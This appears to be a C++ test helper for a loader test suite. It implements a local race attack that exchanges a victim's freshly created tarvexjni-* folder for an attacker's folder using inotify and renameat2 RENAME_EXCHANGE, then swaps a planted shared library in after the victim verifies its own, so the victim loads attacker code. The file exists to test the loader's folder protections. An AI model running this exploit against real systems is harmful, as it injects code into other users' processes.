// The attack the loader's folder rules exist to stop, for loader_test.sh, run as another local
// user: it watches a folder with inotify, exchanges every new tarvexjni-* folder in it for one
// of its own made beside it (renameat2 with RENAME_EXCHANGE: within one folder, so that the
// victim's folder need not be writable to it), and once the victim has written the bridge into
// what is now the attacker's folder and read it back, renames its own library over it.
//
// Usage: swapper <watched folder> <its library>
// Says "watching <folder>" once ready, then one line per thing it saw or did; runs until killed.
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <map>
#include <string>

namespace {

void say(const std::string& line) {
  printf("%s\n", line.c_str());
  fflush(stdout);
}

bool copy(const std::string& from, const std::string& to) {
  int in = open(from.c_str(), O_RDONLY);
  int out = open(to.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0755);
  char buffer[1 << 16];
  ssize_t n = 0;
  bool ok = in >= 0 && out >= 0;
  while (ok && (n = read(in, buffer, sizeof buffer)) > 0) ok = write(out, buffer, size_t(n)) == n;
  if (in >= 0) close(in);
  if (out >= 0) close(out);
  return ok && n == 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  std::string watched = argv[1], planted = argv[2];
  int fd = inotify_init1(IN_CLOEXEC);
  // Creations only: its own exchanges move entries in this folder too.
  int parent = inotify_add_watch(fd, watched.c_str(), IN_CREATE | IN_ONLYDIR);
  if (parent < 0) {
    say("cannot watch " + watched + ": " + strerror(errno));
    return 1;
  }
  say("watching " + watched);
  std::map<int, std::string> taken;  // watch on an exchanged folder -> its path now
  int decoys = 0;
  alignas(inotify_event) char buffer[4096];
  for (;;) {
    ssize_t n = read(fd, buffer, sizeof buffer);
    if (n <= 0) return 1;
    for (char* p = buffer; p < buffer + n;) {
      auto* event = reinterpret_cast<inotify_event*>(p);
      p += sizeof(inotify_event) + event->len;
      std::string name = event->len ? event->name : "";
      if (event->wd == parent) {
        if (!(event->mask & IN_ISDIR) || name.rfind("tarvexjni-", 0) != 0) continue;
        say("saw " + name);
        std::string path = watched + "/" + name;
        std::string decoy =
            watched + "/.decoy-" + std::to_string(getpid()) + "-" + std::to_string(++decoys);
        if (mkdir(decoy.c_str(), 0777) != 0 || chmod(decoy.c_str(), 0777) != 0 ||
            !copy(planted, decoy + "/.planted")) {
          say("cannot prepare " + decoy + ": " + strerror(errno));
          continue;
        }
        if (syscall(SYS_renameat2, AT_FDCWD, path.c_str(), AT_FDCWD, decoy.c_str(),
                    RENAME_EXCHANGE) != 0) {
          say("exchange failed for " + name + ": " + strerror(errno));
          continue;
        }
        say("exchanged " + name);
        int wd = inotify_add_watch(fd, path.c_str(), IN_CLOSE_NOWRITE | IN_ONLYDIR);
        if (wd >= 0) taken[wd] = path;
      } else if (taken.count(event->wd) && name == "libtarvexjni.so") {
        // The victim read back what it wrote: its digest is done, its load comes next.
        std::string dir = taken[event->wd];
        if (rename((dir + "/.planted").c_str(), (dir + "/" + name).c_str()) == 0) {
          say("planted " + dir + "/" + name);
        }
        inotify_rm_watch(fd, event->wd);
        taken.erase(event->wd);
      }
    }
  }
}
